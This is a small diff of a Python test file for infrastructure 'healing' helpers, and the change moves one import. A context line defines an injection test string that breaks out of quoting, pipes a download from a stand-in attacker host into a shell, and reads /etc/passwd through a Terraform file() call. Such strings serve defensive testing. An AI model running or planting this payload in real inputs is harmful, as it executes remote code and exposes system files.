@@ -12,10 +12,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from functions.healing.change_lines import set_command, terraform_name, with_unit
+from functions.healing.every_step import STEPS
 from functions.healing.examples import QUEUE_ARN
 from functions.healing.queue_names import arn_of_url, public_url
 from functions.healing.states import State
-from functions.healing.steps import STEPS
 from tests.functions.healing.cases_to_page import paged, section
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
